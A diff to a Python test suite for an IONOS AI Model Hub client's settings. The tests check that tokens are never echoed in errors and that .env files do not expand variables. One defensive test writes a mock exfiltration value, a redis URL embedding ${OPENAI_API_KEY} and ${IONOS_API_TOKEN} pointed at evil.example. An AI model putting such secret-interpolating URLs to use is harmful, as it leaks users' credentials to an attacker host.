@@ -30,6 +30,7 @@ if TYPE_CHECKING:
     from tests.loopback import LoopbackServer
 
 CANARY = "eyJcanaryCANARYcanary0123456789"
+NO_FILE = "it holds a token or key: name a file, and put the token into IONOS_API_TOKEN."
 HOSTING_KEY = "0123456789abcdef.hostingCANARYkey"
 FLUX2 = "black-forest-labs/FLUX.2-klein-4B"
 
@@ -245,7 +246,7 @@ def test_the_missing_token_names_variables_places_and_ways_out(monkeypatch: pyte
     monkeypatch.setenv("IONOS_API_KEY", HOSTING_KEY)
     start = (
         "No IONOS token: set IONOS_API_TOKEN (or IONOS_API_KEY or IONOS_TOKEN, or IONOS_API_TOKEN_FILE to a file that "
-        "holds it), or pass api_key=. Looked in the environment"
+        "holds it), or pass api_key= in code. Looked in the environment"
     )
     end = (
         " IONOS_API_KEY in the environment holds a key for IONOS' DNS and hosting API, which the AI Model Hub does not "
@@ -279,6 +280,21 @@ def test_unknown_lines_in_the_file_are_ignored() -> None:
     )  # fmt: skip
     settings = IonosSettings()
     assert (settings.timeout, settings.max_retries, settings.sandbox) == (4, 1, False)
+
+
+def test_a_file_cannot_take_in_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A `.env` that came with somebody's code sends no variable's value to an address that it names."""
+    monkeypatch.setenv("OPENAI_API_KEY", CANARY)
+    monkeypatch.setenv("IONOS_API_TOKEN", CANARY)
+    write_env(
+        "IONOS_BUDGET_URL=redis://${OPENAI_API_KEY}:${IONOS_API_TOKEN}@evil.example/0",
+        'IONOS_BASE_URL="https://a.ionos.com/${OPENAI_API_KEY}"',
+        "IONOS_PRICES=",
+    )
+    settings = IonosSettings()
+    assert settings.budget_url is not None
+    assert settings.budget_url.get_secret_value() == "redis://${OPENAI_API_KEY}:${IONOS_API_TOKEN}@evil.example/0"
+    assert settings.base_url == "https://a.ionos.com/${OPENAI_API_KEY}"
 
 
 def test_a_byte_order_mark_is_no_part_of_the_first_name() -> None:
@@ -384,6 +400,9 @@ def test_a_bad_value_is_named_by_its_variable_and_never_shown(
         ({"max_retries": -1}, "Cannot use max_retries=: input should be greater than or equal to 0."),
         ({"api_key": 5}, "Cannot use api_key=: input should be a valid string."),
         ({"apikey": CANARY}, "There is no setting 'apikey'."),
+        ({"api_key_file": CANARY}, f"Cannot use api_key_file=: {NO_FILE}"),
+        ({"api_key_file": f"Bearer {CANARY}"}, f"Cannot use api_key_file=: {NO_FILE}"),
+        ({"ca_bundle": CANARY}, f"Cannot use ca_bundle=: {NO_FILE}"),
         ({"base_url": "nowhere", "timeout": "x"}, None),
     ],
 )
@@ -395,6 +414,16 @@ def test_a_bad_argument_is_named_without_its_value(values: dict[str, object], me
         assert str(caught.value) == message
     else:
         assert str(caught.value).count("Cannot use") == 2
+    assert CANARY not in everything_said(caught.value)
+
+
+@pytest.mark.parametrize("name", ["IONOS_API_TOKEN_FILE", "IONOS_CA_BUNDLE"])
+def test_a_token_in_place_of_a_file_is_refused_unseen(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """What was pasted into the wrong variable shows in no message."""
+    monkeypatch.setenv(name, CANARY)
+    with pytest.raises(ConfigurationError) as caught:
+        create_client()
+    assert str(caught.value) == f"Cannot use {name} in the environment: {NO_FILE}"
     assert CANARY not in everything_said(caught.value)
 
 
@@ -584,14 +613,16 @@ def test_the_settings_of_saving_never_raise(monkeypatch: pytest.MonkeyPatch) -> 
     assert saving_settings() == SavingSettings()
 
 
-def test_the_settings_of_saving_need_no_working_directory(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Where the working directory is gone, the defaults hold."""
+def test_no_settings_need_a_working_directory(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Where the working directory is gone, so is its `.env`, and the rest counts."""
 
     def gone(self: Path) -> Path:
         raise FileNotFoundError
 
     monkeypatch.setattr(Path, "absolute", gone)
+    monkeypatch.setenv("IONOS_TIMEOUT", "5")
     assert saving_settings() == SavingSettings()
+    assert (IonosSettings().timeout, IonosSettings().env_path) == (5, Path(".env"))
 
 
 @pytest.mark.parametrize(("word", "on"), [("off", False), ("0", False), ("no", False), ("ON", True), ("true", True)])
